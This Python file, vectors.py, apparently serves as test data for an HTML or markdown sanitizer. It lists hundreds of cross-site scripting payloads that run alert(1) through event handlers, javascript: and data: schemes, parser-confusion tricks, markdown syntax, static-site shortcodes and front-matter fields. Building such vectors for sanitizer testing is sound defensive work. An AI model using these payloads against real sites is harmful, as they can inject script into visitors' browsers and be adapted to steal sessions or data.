# SPDX-License-Identifier: MIT
"""vectors.py: texts that try to run script in whatever shows an entry. Each calls alert()."""

EVENTS = """onabort onafterprint onanimationend onanimationstart onauxclick onbeforecopy onbeforeinput
onbeforetoggle onblur oncanplay onclick oncopy onerror onfocus onfocusin onhashchange oninput
onload onloadstart onmouseenter onmouseover onpageshow onplay onpointerdown onpointerover onpopstate
onreadystatechange onresize onscroll onscrollend onsecuritypolicyviolation ontoggle ontransitionend
onunhandledrejection onwebkitanimationend onwheel""".split()
ELEMENTS = ["img src=x", "svg", "video src=x", "details open", "input autofocus", "a href=#",
            "marquee", "body", "iframe src=x", "p style='animation:x 1s'"]

# Ways to write "javascript:" that browsers have taken for it.
SCHEMES = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)",
           "java\tscript:alert(1)", "java&#10;script:alert(1)", "javascript&colon;alert(1)",
           "&#106;avascript:alert(1)", "&#x6A;&#x61;vascript:alert(1)", "\x01javascript:alert(1)",
           "javascript:/**/alert(1)", "javascript://%0aalert(1)", "vbscript:alert(1)",
           "data:text/html,<script>alert(1)</script>",
           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
           "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
           "blob:alert(1)", "view-source:javascript:alert(1)", "feed:javascript:alert(1)",
           "jar:javascript:alert(1)!/", "&Tab;javascript:alert(1)"]
PLACES = ['<a href="{}">x</a>', '<iframe src="{}"></iframe>', '<object data="{}"></object>',
          '<embed src="{}">', '<form action="{}"><button>x</button></form>',
          '<button formaction="{}">x</button>', '<img src="{}">', '<video poster="{}"></video>',
          '<svg><a xlink:href="{}"><text y="9">x</text></a></svg>',
          '<math href="{}">x</math>', '<base href="{}">', '<link rel=stylesheet href="{}">',
          '<meta http-equiv=refresh content="0;url={}">', '<area href="{}">',
          '<body background="{}">', '[x]({})', '![x]({})', '<{}>', '[x][1]\n\n[1]: {}',
          '[x](<{}>)']

RAW = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script\n>", "<<script>alert(1)//<</script>", "<scr<script>ipt>alert(1)</script>",
    "<script src=data:,alert(1)></script>", "<script type=module>alert(1)</script>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "<!--><script>alert(1)</script>-->",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script>", "<?xml-stylesheet href=javascript:alert(1)?>",
    "<!DOCTYPE x [<!ENTITY y '<script>alert(1)</script>'>]>&y;",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", "<svg><set onend=alert(1) dur=1s>",
    "<svg><animate xlink:href=#a attributeName=href values=javascript:alert(1) /><a id=a><text y=9>x</text></a>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><a href='javascript:alert(1)'/></svg>#x\">",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=x onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=x>\">",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style>",
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\">",
    "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\">",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>", "<template><img src=x onerror=alert(1)></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<table><td><select><img src=x onerror=alert(1)>", "<table><svg><desc><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>", "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<p style=\"background:url(javascript:alert(1))\">x</p>", "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"-moz-binding:url(data:text/xml,x)\">x</p>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe srcdoc=\"&lt;img src=x onerror=alert(1)&gt;\"></iframe>",
    "<iframe src=\"https://www.youtube.com.evil.example/\" onload=alert(1)></iframe>",
    "<object type=text/html data=data:text/html,<script>alert(1)</script>></object>",
    "<applet code=x onerror=alert(1)>", "<frameset onload=alert(1)>", "<isindex action=javascript:alert(1)>",
    "<img src=x onerror=alert(1)>", "<img/src=x/onerror=alert(1)>", "<img src=x\nonerror\n=\nalert(1)>",
    "<img src='x' onerror=alert`1`>", "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=x:x onerror=\"eval('al'+'ert(1)')\">", "<img srcset=x onerror=alert(1)>",
    "<img src=x ONERROR=alert(1)>", "<img src=x on\x00error=alert(1)>", "<img src=x \x0conerror=alert(1)>",
    "<img src=x onerror&#61;alert(1)>", "<image src=x onerror=alert(1)>", "<input type=image src=x onerror=alert(1)>",
    "<audio src=x onerror=alert(1)></audio>", "<video><source onerror=alert(1)></video>",
    "<video src=x onerror=alert(1)></video>", "<track src=x onerror=alert(1)>",
    "<a href=\"x\" ping=\"javascript:alert(1)\">x</a>", "<a target=_blank href=x onfocus=alert(1) autofocus>x</a>",
    "<p id=x tabindex=1 onfocus=alert(1) autofocus></p>", "<p contenteditable autofocus onfocus=alert(1)>x</p>",
    "<p is=x-y onclick=alert(1)>x</p>", "<x-y onfocus=alert(1) autofocus tabindex=1>x</x-y>",
    "<form id=f><input name=attributes></form><input form=f onfocus=alert(1) autofocus>",
    "<form><input name=parentNode onfocus=alert(1) autofocus></form>",
    "<img name=body><img name=createElement src=x onerror=alert(1)>",
    "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;", "\\<script>alert(1)</script>",
    "<b/onclick=alert(1)>x</b>", "<b onclick='alert(1)'>x</b", "<b title='\"><img src=x onerror=alert(1)>'>x</b>",
    "<b title=\"'><img src=x onerror=alert(1)>\">x</b>", "<b title=`><img src=x onerror=alert(1)>`>x</b>",
    "<p>\u2028<script>alert(1)</script>", "<p>\ufeff<script\ufeff>alert(1)</script>", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "<ruby><rt><rtc><img src=x onerror=alert(1)></ruby>", "<dialog open onclose=alert(1)><form method=dialog>",
    "<object><param name=movie value=javascript:alert(1)></object>", "<portal src=javascript:alert(1)>",
]

MARKDOWN = [
    "`<script>alert(1)</script>`", "```<script>alert(1)</script>\nx\n```",
    "```js\" onclick=\"alert(1)\nx\n```", "~~~html\n</code></pre><script>alert(1)</script>\n~~~",
    "    </code></pre><script>alert(1)</script>", "[x](https://e.example/ \"onclick=alert(1)\")",
    "[x](https://e.example/ '\" onclick=\"alert(1)')", "![\" onerror=\"alert(1)](x)",
    "![<img src=x onerror=alert(1)>](x)", "[<img src=x onerror=alert(1)>](x)",
    "[x]: javascript:alert(1)\n\n[x]", "[x][<script>alert(1)</script>]\n\n[<script>alert(1)</script>]: /y",
    "[^1]\n\n[^1]: <script>alert(1)</script>", "[^\"><script>alert(1)</script>]\n\n[^\"><script>alert(1)</script>]: x",
    "[^<img/src/onerror=alert(1)>]\n\n[^<img/src/onerror=alert(1)>]: x",
    "|a|b|\n|-|-|\n|<script>alert(1)</script>|`<script>alert(1)</script>`|",
    "# <script>alert(1)</script>", "# x {#\" onclick=\"alert(1)}", "## x {onclick=alert(1)}",
    "# <img src=x onerror=alert(1)> {#x}", "x\n{: onclick=\"alert(1)\"}", "*x*{: onmouseover=\"alert(1)\"}",
    "[x](https://e.example/){: onclick=\"alert(1)\"}", "[x](https://e.example/){:href=\"javascript:alert(1)\"}",
    "![x](y){onerror=alert(1)}", "x{.a onclick=alert(1)}", "x\n{.y style=\"x:expression(alert(1))\"}",
    "{::nomarkdown}<script>alert(1)</script>{:/}", "{::comment}--><script>alert(1)</script>{:/}",
    "*[HTML]: <script>alert(1)</script>\n\nHTML", "term\n: <script>alert(1)</script>",
    "$$<script>alert(1)</script>$$", "\\(<img src=x onerror=alert(1)>\\)", "https://e.example/\"onclick=\"alert(1)",
    "www.e.example/<script>alert(1)</script>", "<https://e.example/\"onclick=alert(1)>",
    "<a@e.example\"onclick=alert(1)>", "> [!NOTE] <script>alert(1)</script>", "- [ ] <script>alert(1)</script>",
    "x  \n<script>alert(1)</script>", "<div>\n\n<script>alert(1)</script>\n\n</div>",
    "<div markdown=\"1\">\n<script>alert(1)</script>\n</div>", ":smile\"onload=alert(1):",
    "==<img src=x onerror=alert(1)>==", "H~<img src=x onerror=alert(1)>~O", "^<svg onload=alert(1)>^",
]

TAGS = [
    "{{< figure src=\"javascript:alert(1)\" caption=\"<script>alert(1)</script>\" >}}",
    "{{< figure src=\"x\\\" onerror=\\\"alert(1)\" >}}", "{{< youtube \"><script>alert(1)</script>\" >}}",
    "{{< youtube id=\"x\\\" onload=\\\"alert(1)\" >}}", "{{< vimeo \"1\\\" onload=alert(1)\" >}}",
    "{{< highlight html >}}<script>alert(1)</script>{{< /highlight >}}",
    "{{% highlight \"\\\" onclick=alert(1)\" %}}x{{% /highlight %}}", "{{< gist \"x/y\\\"><script>alert(1)</script>\" >}}",
    "{{< instagram \"<svg onload=alert(1)>\" >}}", "{{< x5 \"<script>alert(1)</script>\" >}}",
    "{{< ref \"javascript:alert(1)\" >}}", "[x]({{< relref \"javascript:alert(1)\" >}})",
    "{{< unknown >}}<script>alert(1)</script>{{< /unknown >}}", "{{<raw>}}<script>alert(1)</script>{{</raw>}}",
    "{% highlight js %}</code><script>alert(1)</script>{% endhighlight %}",
    "{% highlight \"onclick=alert(1) %}x{% endhighlight %}", "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{% img javascript:alert(1) 1 1 \"x\" \"onerror=alert(1)\" %}", "{% img x 1 1 '\"><script>alert(1)</script>' %}",
    "{% youtube \"><script>alert(1)</script> %}", "{% video javascript:alert(1) %}",
    "{% include figure image_path=\"javascript:alert(1)\" caption=\"<script>alert(1)</script>\" %}",
    "{% include video id='\"><script>alert(1)</script>' provider=youtube %}",
    "{% blockquote <script>alert(1)</script>, x javascript:alert(1) %}x{% endblockquote %}",
    "{% codeblock \" onclick=alert(1) lang:js javascript:alert(1) %}x{% endcodeblock %}",
    "{% gist 1\"><script>alert(1)</script> %}", "{% link javascript:alert(1) %}", "{% post_url <script>alert(1)</script> %}",
    "{% assign x = \"<script>alert(1)</script>\" %}{{ x }}", "{{ page.title }}", "{{ \"<script>alert(1)</script>\" }}",
    "{{ '<script>alert(1)</script>' | raw }}", "{{ content | safe }}", "{{ page.evil }}",
    "{% capture x %}<script>alert(1)</script>{% endcapture %}{{ x }}", "{% comment %}--><script>alert(1)</script>{% endcomment %}",
    "{{ youtube(id=\"x\\\" onload=alert(1)\") }}", "{% quote(author=\"<script>alert(1)</script>\") %}x{% end %}",
    "<Figure src=\"javascript:alert(1)\" onClick={alert(1)} />", "<Tabs><script>{`alert(1)`}</script></Tabs>",
    "{<img src=x onError={alert(1)} />}", "{`<script>alert(1)</script>`}", "export const x = <script>alert(1)</script>\n\n{x}",
    "<div v-html=\"'<img src=x onerror=alert(1)>'\" @click=\"alert(1)\">x</div>", "{{ constructor.constructor('alert(1)')() }}",
    "<script setup>\nalert(1)\n</script>", ":::tip <script>alert(1)</script>\nx\n:::",
    "::: details <img src=x onerror=alert(1)>\n<script>alert(1)</script>\n:::", "::: code-group\n```js [<script>alert(1)</script>]\nx\n```\n:::",
    "[[toc]]<script>alert(1)</script>", "<<< @/x\"><script>alert(1)</script>", "{static}/x\"><script>alert(1)</script>",
    "[x]({filename}javascript:alert(1))", "[x]({static}javascript:alert(1))", "![x]({attach}x\"onerror=alert(1))",
]

# Front matter lines beside a plain body.
FRONT = [
    "title: \"<script>alert(1)</script>\"", "title: \"<img src=x onerror=alert(1)>\"",
    "title: \"&lt;script&gt;alert(1)&lt;/script&gt;\"", "description: \"<script>alert(1)</script>\"",
    "summary: \"[x](javascript:alert(1)) <img src=x onerror=alert(1)>\"", "author: \"<script>alert(1)</script>\"",
    "tags: [\"<script>alert(1)</script>\"]", "categories: [\"\\\"><img src=x onerror=alert(1)>\"]",
    "image: \"javascript:alert(1)\"", "image: \"x\\\" onerror=\\\"alert(1)\"", "images: [\"data:text/html,<script>alert(1)</script>\"]",
    "link: \"javascript:alert(1)\"", "external_url: \"javascript:alert(1)\"", "slug: \"\\\"><script>alert(1)</script>\"",
    "url: \"/x\\\"onclick=alert(1)/\"", "lang: \"\\\"><script>alert(1)</script>\"", "enclosure: \"javascript:alert(1)\"",
    "in_reply_to: \"javascript:alert(1)\"", "evil: \"<script>alert(1)</script>\"", "cover: {image: \"javascript:alert(1)\", alt: \"\\\"onerror=alert(1)\"}",
]


def all_vectors():
    """Pairs of front matter and body."""
    bodies = [f"<{e} {event}=alert(1)>x" for i, event in enumerate(EVENTS)
              for e in (ELEMENTS[i % len(ELEMENTS)], ELEMENTS[(i * 3 + 1) % len(ELEMENTS)])]
    bodies += [place.format(scheme) for i, scheme in enumerate(SCHEMES)
               for place in PLACES[i % 2::2]]
    bodies += RAW + MARKDOWN + TAGS
    return [("", body) for body in bodies] + [(front, "Text {{ page.title }}.") for front in FRONT]
